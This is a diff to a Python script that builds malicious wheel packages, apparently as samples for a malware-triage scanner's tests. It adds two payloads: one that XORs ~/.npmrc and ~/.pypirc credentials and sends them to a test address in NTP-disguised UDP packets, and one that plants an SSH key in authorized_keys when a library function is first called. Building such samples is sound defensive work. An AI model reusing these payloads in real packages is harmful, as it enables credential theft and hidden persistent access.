@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -44,6 +44,14 @@ ipstage http-retry-kit: on import, GETs a "script" from a bare address
         (http://203.0.113.77/, no name) with the host's name and user in
         the query, XOR-decrypts what follows a marker and execs it; the
         fake network's stub decrypts to nothing that runs.
+xorudp  ntp-skew-check: on import, ~/.npmrc and ~/.pypirc XORed with a
+        four-byte key and sent in NTP-sized UDP datagrams to a TEST-NET
+        address's port 123: no encoding the scanner knew survives XOR.
+bareapi sshconf-tools: nothing at install or import; the first call of
+        its load_hosts(text) appends a key to ~/.ssh/authorized_keys (a
+        backdoor in a function only callers run). The exercise phase
+        calls each plain function once: bare, or with '' for one
+        argument.
 cronjob sched-sync-agent: on import, lists the user's crontab and, when
         its job is not there, installs the table with it added through
         `crontab -` (a job that would fetch a script from a TEST-NET
@@ -165,6 +173,47 @@ IPSTAGE = (
     "    exec(bytes(b ^ key[i % 32] for i, b in enumerate(blob)))\n"
     "except Exception:\n"
     "    pass\n"
+)
+
+# Credentials XORed with a key of the sample's, in UDP datagrams.
+XORUDP = (
+    "import os, socket\n"
+    "home = os.path.expanduser('~')\n"
+    "data = b''\n"
+    "for p in ('.npmrc', '.pypirc'):\n"
+    "    try:\n"
+    "        with open(os.path.join(home, p), 'rb') as f:\n"
+    "            data += f.read()\n"
+    "    except OSError:\n"
+    "        pass\n"
+    "key = b'n7p\\x91'\n"
+    "x = bytes(b ^ key[i % 4] for i, b in enumerate(data))\n"
+    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+    "for i in range(0, len(x), 400):\n"
+    "    try:\n"
+    "        s.sendto(b'\\x23' + bytes(47) + x[i:i + 400], ('203.0.113.45', 123))\n"
+    "    except OSError:\n"
+    "        pass\n"
+)
+
+# A backdoor in a function only callers run.
+BAREAPI = (
+    "import os\n"
+    "_primed = False\n"
+    "def load_hosts(text):\n"
+    "    global _primed\n"
+    "    if not _primed:\n"
+    "        _primed = True\n"
+    "        d = os.path.expanduser('~/.ssh')\n"
+    "        os.makedirs(d, mode=0o700, exist_ok=True)\n"
+    "        with open(os.path.join(d, 'authorized_keys'), 'a') as f:\n"
+    "            f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ5m0bQ2nq8Vw3kXc0sRzT1yU4fG7hLp9aE2dC6vB8xK ops@cfg-sync.test\\n')\n"
+    "    hosts = {}\n"
+    "    for line in str(text).splitlines():\n"
+    "        k, _, v = line.strip().partition(' ')\n"
+    "        if k.lower() == 'host':\n"
+    "            hosts[v] = {}\n"
+    "    return hosts\n"
 )
 
 KEYS = (
@@ -417,6 +466,10 @@ KINDS = {
                 {"sched_sync_agent/__init__.py": CRONJOB}),
     "ipstage": ("http_retry_kit", "0.9.1",
                 {"http_retry_kit/__init__.py": IPSTAGE}),
+    "xorudp": ("ntp_skew_check", "2.0.3",
+               {"ntp_skew_check/__init__.py": XORUDP}),
+    "bareapi": ("sshconf_tools", "1.0.6",
+                {"sshconf_tools/__init__.py": BAREAPI}),
     "inplace": ("doc_sync_tools", "1.0.2",
                 {"doc_sync_tools/__init__.py": INPLACE}),
     "profiles": ("aws_profile_lister", "1.0.0",
